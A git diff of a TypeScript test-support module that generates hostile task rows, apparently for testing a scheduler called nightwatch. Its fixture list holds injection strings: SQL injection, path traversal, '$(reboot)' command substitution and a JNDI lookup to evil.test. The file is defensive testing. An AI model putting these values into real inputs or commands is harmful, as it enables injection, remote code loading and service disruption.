@@ -2,9 +2,6 @@ import fc from 'fast-check';
 import { anInfo, type NewTask } from '../../support/task-rows.ts';
 import { hostileInfo } from '../../unit/security/hostile-info.ts';
 
-/** Columns of the table by name; those of nightwatch too, for whoever owns the table can write them. */
-export type HostileTask = Omit<NewTask, 'status'> & { readonly status: string; readonly [column: string]: unknown };
-
 const longestName = 45;
 const largestInfo = 32 * 1024;
 const foremost = 2 ** 31 - 1;
@@ -13,7 +10,7 @@ const names = [
   '../../../kube-system',
   "x'; DROP TABLE task; -- ",
   "x' OR '1'='1",
-  '${jndi:ldap://evil.test}',
+  `\${jndi:ldap://evil.test}`,
   '$(reboot)',
   '%00%2f..',
   '-rf',
@@ -86,7 +83,7 @@ const infos = [
 ];
 
 /** Rows that attack everything a row has: name, namespace, info, numbers, and texts drawn at random. */
-export function hostileTasks(count: number, namespace: string, seed: number): readonly HostileTask[] {
+export function hostileTasks(count: number, namespace: string, seed: number): readonly NewTask[] {
   const drawn = fc.sample(hostileInfo, { numRuns: count, seed });
   return Array.from({ length: count }, (_, index) => {
     const task = { name: `hostile-${index}`, namespace, info: drawn[index] ?? '', status: 'Normal', priority: 0 };
@@ -104,8 +101,8 @@ export function hostileTasks(count: number, namespace: string, seed: number): re
   });
 }
 
-/** Rows in which somebody has written what only nightwatch writes. */
-export function tamperedTasks(namespace: string): readonly HostileTask[] {
+/** Rows in which somebody who owns the table has written columns that are nightwatch's own. */
+export function tamperedTasks(namespace: string): readonly NewTask[] {
   const task = { namespace, info: anInfo(), status: 'Normal', user_id: '-9223372036854775808' };
   const past = '2000-01-01 00:00:00';
   return [
